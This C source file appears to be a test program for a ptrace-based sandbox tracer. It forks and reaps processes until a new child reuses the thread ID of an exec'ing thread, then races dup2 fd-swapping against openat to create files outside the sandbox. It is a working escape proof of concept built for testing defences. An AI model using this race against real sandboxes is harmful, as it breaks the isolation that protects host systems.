// tidreuse: a new task of the tree gets the tid of a thread whose execve
// is going through, before the tracer has seen that exec (stale task
// records, tracer/stale.go), and uses its being unknown to the tracer.
//
//   tidreuse EXE SBXDIR HOSTDIR ROUNDS
//
// A forked process G makes its memory large (so that its exec takes a
// while to free it) and starts a thread T. The pid counter is moved, by
// forking and reaping short-lived children, until the next pid handed out
// is T's tid; T then execs EXE (allowed). de_thread frees T's tid before
// the exec is reported, and the main process at once clones a child with
// CLONE_VM|CLONE_FILES, which gets that tid. The child flips fd 100
// between SBXDIR and HOSTDIR with dup2 (not a checked call) while the
// main process calls openat(100, "escN", O_CREAT|O_EXCL) ROUNDS times: a
// tracer that keeps the child frozen while it checks each openat lets
// none reach HOSTDIR. Prints
//   result: tidreuse reused=yes|no created=N denied=D outside=M
// where outside counts HOSTDIR's escN files (the test lists HOSTDIR
// itself). Up to 5 attempts are made at getting the tid reused.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

struct shared {
	volatile int tid;  // T's tid, written by T
	volatile int go;   // 1: T execs; 2: the flipper stops
};
static struct shared *sh;
static const char *exe;
static int sbxfd, hostfd;

static int alive(int tid) {
	char p[64];
	snprintf(p, sizeof p, "/proc/%d", tid);
	return access(p, F_OK) == 0;
}

static void *execer(void *arg) {
	(void)arg;
	sh->tid = (int)syscall(SYS_gettid);
	while (sh->go == 0)
		;
	char *argv[] = {(char *)exe, NULL};
	execv(exe, argv);
	_exit(99);
}

static int flipper(void *arg) {
	(void)arg;
	while (sh->go != 2) {
		dup2(hostfd, 100);
		for (volatile int i = 0; i < 100; i++)
			;
		dup2(sbxfd, 100);
		for (volatile int i = 0; i < 100; i++)
			;
	}
	_exit(0);
}

// advance forks and reaps children until the next pid is target: every pid
// between the last one handed out and target is taken. 0 when a fork got
// target itself or the counter went past it.
static int advance(int target) {
	int last = 0;
	for (long n = 0; n < 1L << 22; n++) {
		if (last > 0 && last < target) {
			int q = last + 1;
			while (q < target && alive(q))
				q++;
			if (q == target)
				return 1;
		}
		pid_t p = fork();
		if (p == 0)
			_exit(0);
		if (p < 0)
			return 0;
		waitpid(p, NULL, 0);
		if (p == target)
			return 0;
		last = p;
	}
	return 0;
}

int main(int argc, char **argv) {
	if (argc != 5) {
		fprintf(stderr, "usage: tidreuse EXE SBXDIR HOSTDIR ROUNDS\n");
		return 2;
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	exe = argv[1];
	int rounds = atoi(argv[4]);
	sh = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	char *stack = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	sbxfd = open(argv[2], O_RDONLY | O_DIRECTORY);
	hostfd = open(argv[3], O_RDONLY | O_DIRECTORY);
	if (sh == MAP_FAILED || stack == MAP_FAILED || sbxfd < 0 || hostfd < 0) {
		perror("tidreuse: set-up");
		return 2;
	}
	dup2(sbxfd, 100);
	int reused = 0, child = -1;
	for (int attempt = 0; attempt < 5 && !reused; attempt++) {
		sh->tid = 0;
		sh->go = 0;
		pid_t g = fork();
		if (g == 0) {
			size_t n = 256UL << 20;
			mmap(NULL, n, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
			pthread_t th;
			pthread_create(&th, NULL, execer, NULL);
			for (;;)
				pause();
		}
		while (sh->tid == 0)
			;
		int t = sh->tid;
		if (!advance(t)) {
			kill(g, SIGKILL);
			waitpid(g, NULL, 0);
			continue;
		}
		sh->go = 1;
		while (alive(t))
			;
		child = clone(flipper, stack + (1 << 16), CLONE_VM | CLONE_FILES | SIGCHLD, NULL);
		waitpid(g, NULL, 0);
		if (child == t) {
			reused = 1;
			break;
		}
		sh->go = 2;
		waitpid(child, NULL, 0);
		sh->go = 0;
	}
	int created = 0, denied = 0, outside = 0;
	if (reused) {
		for (int i = 0; i < rounds; i++) {
			char name[32];
			snprintf(name, sizeof name, "esc%d", i);
			int fd = openat(100, name, O_CREAT | O_WRONLY | O_EXCL, 0644);
			if (fd >= 0) {
				created++;
				close(fd);
			} else if (errno == EACCES || errno == EPERM)
				denied++;
		}
		for (int i = 0; i < rounds; i++) {
			char name[32];
			snprintf(name, sizeof name, "esc%d", i);
			if (faccessat(hostfd, name, F_OK, 0) == 0)
				outside++;
		}
		sh->go = 2;
		waitpid(child, NULL, 0);
	}
	printf("result: tidreuse reused=%s created=%d denied=%d outside=%d\n", reused ? "yes" : "no", created, denied, outside);
	return 0;
}
